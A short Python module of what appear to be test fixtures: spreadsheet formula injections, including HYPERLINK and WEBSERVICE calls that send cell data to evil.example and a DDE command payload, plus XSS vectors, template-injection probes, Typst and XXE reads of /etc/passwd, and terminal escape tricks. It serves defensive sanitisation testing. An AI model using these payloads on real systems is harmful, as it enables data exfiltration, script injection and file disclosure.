"""Texts that try to be more than texts: to spreadsheets, to browsers, to typst, to terminals."""

FORMULAS = tuple(
    f"{lead}{body}"
    for lead in ("=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", " =", "\u200b=", "\ufeff=", "\xa0=")
    for body in (
        "1+1",
        'HYPERLINK("http://evil.example/?x="&A1,"Klik")',
        "cmd|' /C calc'!A0",
        'WEBSERVICE("http://evil.example/"&B2)',
    )
)  # sixty

_TAGS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</text></svg><script>alert(1)</script>",
    "</desc><image href=//evil.example/x>",
    "]]><script>alert(1)</script>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<iframe src=javascript:alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example><input name=x>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example'</style>",
    "<object data=//evil.example></object>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    '" style="background:url(//evil.example)',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    "<<script>script>alert(1)<</script>/script>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<details open ontoggle=alert(1)>",
    "<table><td background=//evil.example>",
    "{{ 7*7 }}",
    "{% import os %}",
    "{0.__class__}",
    "{title} %s %(x)s",
    "#set page(fill: red)",
    '#image("/etc/passwd")',
    '#read("/etc/passwd")',
    "= Heading *bold* _it_ $x^2$ `raw` @ref <label> // comment",
    '#eval("1+1")',
    '\\u{41} \\" \\',
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
)
MARKUP = _TAGS + tuple(f"Banjir {tag} surut" for tag in _TAGS)  # eighty
TERMINAL = ("\x1b[31mmerah\x1b[0m", "\x1b]0;judul\x07", "a\u202eb", "\x9b2J", "x\x08\x08y", "\u2066z\u2069", "\x00nol")
